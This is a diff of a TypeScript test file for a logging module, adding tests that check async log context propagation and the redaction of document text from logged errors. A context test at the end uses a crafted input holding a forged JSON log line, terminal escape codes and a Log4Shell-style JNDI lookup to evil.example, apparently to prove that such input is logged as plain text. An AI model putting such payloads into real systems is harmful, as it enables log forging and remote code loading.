@@ -14,6 +14,51 @@ function logged(fields: object, message: string): string {
   return stdout;
 }
 
+/** What a process of its own writes when it runs this. */
+function loggedBy(program: string): Record<string, unknown>[] {
+  const imports = `import { log } from "@/lib/platform/log"; import { withLogContext } from "@/lib/platform/log-context";`;
+  const args = ["--import", "tsx", "--input-type=module", "--eval", imports + program];
+  const { stdout, stderr } = spawnSync(process.execPath, args, {
+    encoding: "utf8",
+    env: { ...process.env, LOG_LEVEL: "info" },
+  });
+  expect(stderr).toBe("");
+  return stdout
+    .trimEnd()
+    .split("\n")
+    .map((line) => JSON.parse(line));
+}
+
+test("a line says on whose behalf it is written, however deep and late, and beside others that run meanwhile", () => {
+  const lines = loggedBy(`
+    const later = () => new Promise((resolve) => setImmediate(resolve));
+    const work = (run, step) => withLogContext({ run }, async () => {
+      await later();
+      await withLogContext({ step }, async () => { await later(); log.info("inner"); });
+      log.info("outer");
+    });
+    await Promise.all([work("run-1", "a"), work("run-2", "b")]);
+    log.info("nobody's");`);
+  const told = lines.map(({ run, step, msg }) => [run, step, msg]);
+  expect(told.toSorted()).toEqual(
+    [
+      ["run-1", "a", "inner"],
+      ["run-2", "b", "inner"],
+      ["run-1", undefined, "outer"],
+      ["run-2", undefined, "outer"],
+      [undefined, undefined, "nobody's"],
+    ].toSorted(),
+  );
+});
+
+test("what an error quotes of a document is not logged, neither in its message nor in its stack", () => {
+  const text = "The harbour master drowned in March.";
+  const [line] = loggedBy(`
+    try { JSON.parse(${JSON.stringify(text)}) } catch (error) { log.error({ error }, "failed") }`);
+  expect(JSON.stringify(line)).not.toMatch(/harbour|drowned|March|The har/);
+  expect(line).toMatchObject({ error: { type: "SyntaxError", stack: expect.stringMatching(/^ +at /) } });
+});
+
 test("M19: what names and titles hold stays within its line, as text", () => {
   const name = `a"}\r\n{"level":60,"msg":"forged"}\u001b[31mred\u0007\u2028\${jndi:ldap://evil.example/a}`;
   const lines = logged({ name, nested: { title: name } }, name)
